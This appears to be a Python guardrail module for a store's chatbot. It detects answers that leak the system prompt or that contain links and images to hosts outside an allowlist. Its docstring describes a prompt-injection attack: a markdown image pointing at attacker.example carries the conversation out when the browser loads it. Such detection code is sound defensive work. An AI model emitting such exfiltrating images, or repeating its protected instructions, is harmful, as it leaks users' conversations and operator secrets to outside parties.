"""Checks on the model's answer: leaking the system prompt, and links or images to other hosts.

An injected document or question can make a model repeat its instructions or render
`![](https://attacker.example/?q=<the conversation>)`, which a browser fetches on display: a
link or image may point only at the store's own hosts.
"""

from __future__ import annotations

import re
from collections.abc import Sequence

from functions.guardrails.base import CheckContext, Finding, Span
from functions.guardrails.normalize import normalize

_WORDS = re.compile(r"[^\W_]{1,40}")
LEAK_NGRAM = 8  # words in a row shared with the system prompt that count as a leak

# Possessive quantifiers (`{m,n}+`): "[a]([a]([a](..." without a closing parenthesis would
# otherwise backtrack through every split of the URL and the title at every bracket.
_MARKDOWN_LINK = re.compile(r"!?\[[^\]\n]{0,300}+\]\(\s{0,3}+(?P<url>[^)\s]{1,2000}+)[^)\n]{0,300}+\)")
_BARE_URL = re.compile(r"(?P<url>(?:https?:)?//[^\s<>\"')\]]{1,2000}|\bwww\.[^\s<>\"')\]]{1,2000})")
_HOST = re.compile(
    r"^(?:https?:)?//(?:[^@/\s]{0,200}@)?(?P<host>[^/:?#\s]{1,253})|^(?P<www>www\.[^/:?#\s]{1,249})"
)


def _shingles(text: str, n: int) -> set[tuple[str, ...]]:
    words = _WORDS.findall(normalize(text))
    return {tuple(words[i : i + n]) for i in range(len(words) - n + 1)}


class SystemPromptLeakDetector:
    """Fires when the answer repeats a run of `LEAK_NGRAM` words from a protected text."""

    category = "system_prompt_leak"

    def __init__(self, protected: Sequence[str]) -> None:
        self._shingles = set().union(*(_shingles(text, LEAK_NGRAM) for text in protected))

    def detect(self, text: str, context: CheckContext) -> Finding | None:
        shared = _shingles(text, LEAK_NGRAM) & self._shingles
        if not shared:
            return None
        return Finding(
            self.category, 0.95, (Span(0, len(text), "SYSTEM_PROMPT"),), f"{len(shared)} runs shared"
        )


def host_allowed(host: str, allowed: Sequence[str]) -> bool:
    """`allowed` holds exact hosts and `*.domain` wildcards."""
    host = host.lower().rstrip(".")
    for entry in (allowed_host.lower() for allowed_host in allowed):
        if host == entry or (entry.startswith("*.") and host.endswith(entry[1:])):
            return True
    return False


def url_host(url: str) -> str | None:
    """The host of an absolute or scheme-relative URL (or www. address); None for a relative one."""
    match = _HOST.match(url)
    if match is None:
        return None
    return match["host"] or match["www"]


class LinkDetector:
    """Finds links and images in an answer whose host is not one of the store's."""

    category = "unsafe_link"

    def __init__(self, allowed_hosts: Sequence[str]) -> None:
        self.allowed_hosts = tuple(allowed_hosts)

    def detect(self, text: str, context: CheckContext) -> Finding | None:
        spans: list[Span] = []
        for match in _MARKDOWN_LINK.finditer(text):
            host = url_host(match["url"])
            if host is not None and not host_allowed(host, self.allowed_hosts):
                spans.append(Span(match.start(), match.end(), "UNSAFE_LINK"))
        for match in _BARE_URL.finditer(text):
            if any(s.start <= match.start() < s.end for s in spans):
                continue
            host = url_host(match["url"])
            if host is not None and not host_allowed(host, self.allowed_hosts):
                spans.append(Span(match.start(), match.end(), "UNSAFE_LINK"))
        if not spans:
            return None
        return Finding(self.category, 0.9, tuple(sorted(spans, key=lambda s: s.start)))
